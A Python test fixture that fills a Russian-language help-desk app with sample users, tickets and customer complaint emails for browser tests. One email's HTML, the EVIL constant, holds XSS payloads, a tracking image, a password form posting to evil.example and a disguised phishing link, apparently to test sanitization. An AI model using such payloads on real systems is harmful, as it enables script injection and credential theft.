"""The small story that browser tests and screenshots tell: letters that really came in, people who really wrote."""

from __future__ import annotations

import io
from collections.abc import Iterator
from dataclasses import dataclass
from datetime import timedelta
from email.message import EmailMessage

from PIL import Image, ImageDraw
from sqlalchemy import select, update
from sqlalchemy.orm import Session

from desk import contents, db, deadlines, inbox, outbox, people, tickets
from desk.alerts import hours
from desk.blobs import Blobs
from desk.db import Database
from desk.models import Alert, Mailbox, Ticket, User
from desk.settings import Settings
from workers.clock import Clock

PASSWORD = "correct horse battery"
TEAM = {"anna": ("Анна Смирнова", "admin"), "lidia": ("Лидия Орлова", "lead"), "boris": ("Борис Ильин", "advocate")}
EVIL = ('<p>Добрый день!</p><script>document.title="взломано"</script><img src="x" onerror="alert(1)">'
        '<img src="http://evil.example/t.gif"><form action="http://evil.example/"><input name="password"></form>'
        '<svg onload="alert(2)"><a href="javascript:alert(3)">x</a></svg><iframe src="http://evil.example"></iframe>'
        '<a href="http://evil.example/">https://gosuslugi.ru</a><style>@import url(http://evil.example/a.css)</style>'
        '<p>Заказ 43356677-1677</p>')


SETTINGS = ('[desk]\nsecret_key = "test-key-test-key-test-key-test-key"\n[redis]\nurl = "off"\n[smtp]\nsecurity = "none"\n'
            '[[mailbox]]\nname = "main"\naddress = "help@desk.example"\nhost = "127.0.0.1"\nport = 1143\ntls = false\n'
            'username = "desk"\npassword = "demo"\n')


@dataclass(frozen=True)
class Told:
    links: dict[str, str]  # first name → path of a link that signs in


def tell(database: Database, conf: Settings) -> Told:
    """Fill an empty desk; the newest letter came five minutes ago."""
    _arrive(database, conf)
    with database.write() as session:
        team = {name: people.create(session, email=f"{name}@desk.example", name=full, role=role, password=PASSWORD,
                                    actor="story", now=db.now()) for name, (full, role) in TEAM.items()}
        links = {name: people.sign_in_link(session, conf, user, reusable=True, now=db.now()).removeprefix(conf.desk.base_url)
                 for name, user in team.items()}
        _work(session, conf, team)
    _tell_alerts(database, conf)
    return Told(links)


def _tell_alerts(database: Database, conf: Settings) -> None:
    """At any hour of any day: what only waits for the team's hours is told now. The letters wait."""
    clock, now = Clock(database, conf), db.now()
    clock.look(now)
    with database.write() as session:
        session.execute(update(Alert).where(Alert.state == "pending", Alert.due_at <= hours.of(conf).opening(now)).values(
            due_at=now))
    clock.look(now)


def _arrive(database: Database, conf: Settings) -> None:
    letters = list(_letters())
    with database.write() as session:
        box = Mailbox(name="main", uidvalidity=1, last_uid=0, looked_at=db.now())
        session.add(box)
        session.flush()
        for number, raw in enumerate(letters):
            inbox.accept(session, box, uid=number + 1, raw=raw, size=len(raw), historic=False, truncated=False,
                         arrived_at=db.now() - timedelta(hours=7 * (len(letters) - number), minutes=5),
                         blobs=Blobs(conf.blobs_path), now=db.now())
    drain = inbox.Drain(database, conf, now_fn=db.now)
    drain.run()
    drain.close()
    opener = contents.Opener(database, conf, now_fn=db.now)
    opener.run()
    opener.close()


def _work(session: Session, conf: Settings, team: dict[str, User]) -> None:
    anna, now = team["anna"], db.now()
    rows = session.scalars(select(Ticket).order_by(Ticket.number)).all()
    for ticket, user in zip(rows, (anna, team["boris"], anna, None), strict=False):
        tickets.assign(session, conf, ticket, user, actor=f"user:{anna.id}", now=now)
    for ticket, rule, days_ago in ((rows[0], "zpp22_money", 4), (rows[1], "fz59_reply_30", 12),
                                   (rows[2], "zpp23_1_refund_10", 20), (rows[0], "zpp18_tech_15", 13)):
        deadlines.start(session, conf, ticket, rule, start_on=(now - timedelta(days=days_ago)).date(),
                        proof="уведомление о вручении 80080782401239", actor=f"user:{anna.id}", now=now)
    tickets.note(session, rows[0], text="Спросить, есть ли видео распаковки.", author=anna, now=now)
    outbox.write(session, conf, rows[2], text="Марина, здравствуйте!\n\nМы подготовим претензию.", author=anna,
                 nonce="story-reply", now=now - timedelta(minutes=10))


def _letters() -> Iterator[bytes]:
    yield _mail("Пётр Кузнецов", "petr@yandex.example", "Разбитый телефон", "Здравствуйте!\n\n12 ноября получил заказ "
                "18044876-0131 на Озоне: телефон за 24 990 руб. пришёл разбитым. Прошу вернуть деньги.\nФото приложил.\n\n"
                "Пётр, +7 916 123-45-67", ("разбитый экран.jpg", "image", "jpeg", _photo("#3b4a50")),
                ("чек.jpg", "image", "jpeg", _photo("#f4f1e8")), ("Квитанция № 5.pdf", "application", "pdf", _page()))
    yield _mail("Ксения Чернова", "ksenia@mail.example", "Не пришла посылка", "Заказ на Wildberries так и не доставили, "
                "обещали 3 ноября. Деньги не возвращают. Поддержка отвечает шаблоном.")
    yield _mail("Марина Шестакова", "marina@bk.example", "Яндекс Маркет отменил заказ", "Заказ № 57989200259 отменили после "
                "оплаты 12 345,67 руб. Прошу вернуть деньги.\n\n> Здравствуйте!\n> Мы получили ваше обращение.\n")
    evil = EmailMessage()
    evil["From"], evil["To"], evil["Subject"] = "Иван <ivan@mail.example>", "help@desk.example", "Письмо с оформлением"
    evil.set_content("Добрый день! Заказ 43356677-1677")
    evil.add_alternative(EVIL, subtype="html")
    yield evil.as_bytes()
    yield _mail("", "petr@yandex.example", "Ещё раз про телефон!!!", "Сколько можно ждать? Заказ 18044876-0131, верните деньги!")
    yield b"\x00\x01\x02 this is no letter at all"


def _mail(name: str, address: str, subject: str, text: str, *files: tuple[str, str, str, bytes]) -> bytes:
    mail = EmailMessage()
    mail["From"], mail["To"], mail["Subject"] = f"{name} <{address}>", "help@desk.example", subject
    mail["Message-ID"] = f"<{abs(hash(subject)) % 10**9}@{address.partition('@')[2]}>"
    mail.set_content(text)
    for filename, main, sub, data in files:
        mail.add_attachment(data, maintype=main, subtype=sub, filename=filename)
    return mail.as_bytes()


def _photo(colour: str) -> bytes:
    image = Image.new("RGB", (1200, 900), colour)
    pen = ImageDraw.Draw(image)
    for step in range(0, 1200, 90):
        pen.line((step, 0, 1200 - step // 2, 900), fill="#9aa7ab", width=3)
    out = io.BytesIO()
    image.save(out, "JPEG", quality=80)
    return out.getvalue()


def _page() -> bytes:
    out = io.BytesIO()
    Image.new("RGB", (600, 800), "white").save(out, "PDF")
    return out.getvalue()
